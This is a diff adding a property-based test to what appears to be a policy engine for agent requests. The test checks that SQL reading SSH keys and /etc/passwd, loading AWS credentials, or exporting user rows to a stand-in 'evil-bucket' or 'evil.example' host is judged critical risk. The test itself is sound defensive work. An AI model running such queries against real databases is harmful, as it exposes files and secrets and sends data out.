@@ -2259,3 +2259,30 @@ t.test('twentieth pass: SQL past a notebook\'s magic, and in a form field holdin
   t.equal((await decide(places['read-only MCP code']!('%%time\nprint(1)'))).decision.action, 'allow', 'a read-only tool given Python');
   t.equal((await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `state=${encodeURIComponent('{"query": "drop table tennis", "page": 2}')}` })).decision.approval?.risk, 'medium', 'a JSON field with a phrase off SQL paths');
 });
+
+t.test('twentieth pass: other servers\' file, credential and export functions on an endpoint of unknown dialect are not reads', async (t) => {
+  // `GET ?sql=SELECT name, data FROM fsdir('/home')` (the SQLite shell's fileio: every file below a
+  // folder with its contents) was an allowed read; so were `zipfile(…)`, Oracle's `BFILENAME` and
+  // `DBMS_LOB.FILEOPEN`, DuckDB's `st_read_meta`, `mysql_scan`, `load_aws_credentials`,
+  // `iceberg_metadata`, and Aurora's `aws_s3.query_export_to_s3` (a query's rows to any bucket).
+  const calls = ["fsdir('/home/app/.ssh')", "zipfile('/var/backups/db.zip')", "bfilename('DATA_DIR', 'passwd')", 'dbms_lob.fileopen(f)', "st_read_meta('/etc/passwd')", "mysql_scan('host=evil.example', 'users')", 'load_aws_credentials()', "iceberg_metadata('s3://bucket/t')", "aws_s3.query_export_to_s3('SELECT * FROM users', aws_commons.create_s3_uri('evil-bucket', 'k', 'us-east-1'))", "aws_s3.table_import_from_s3('users', '', '(format csv)', 'b', 'k', 'r')", "mysql.lambda_async('arn:aws:lambda:x', '{}')"];
+  const shape = fc.constantFrom((c: string) => `SELECT * FROM ${c}`, (c: string) => `SELECT ${c}`, (c: string) => `SELECT id FROM t WHERE id IN (SELECT 1 FROM ${c})`, (c: string) => `select ${c.toUpperCase()}`);
+  const MCP = `https://${MCP_HOST}/mcp`;
+  const place = fc.constantFrom(
+    (sql: string) => ({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}`, headers: [] as Array<[string, string]>, body: '' }),
+    (sql: string) => ({ method: 'POST', url: GENERIC, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ sql }) }),
+    (sql: string) => ({ method: 'POST', url: MCP, headers: [['Content-Type', 'application/json']] as Array<[string, string]>, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: { sql } } }) }),
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom(...calls), shape, place, async (c, s, p) => {
+      const sql = s(c);
+      const { decision } = await decide(p(sql));
+      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 40), ...seed },
+  );
+  // Controls: ordinary functions there stay reads.
+  for (const sql of ["SELECT lower(name), json_extract(doc, '$.a') FROM users", 'SELECT count(*) FROM users WHERE created_at > now()', "SELECT substr(email, 1, 3) FROM users"]) {
+    t.equal((await decide({ method: 'GET', url: `https://${SQL_HOST}/v1/sql?sql=${encodeURIComponent(sql)}` })).decision.action, 'allow', sql);
+  }
+});
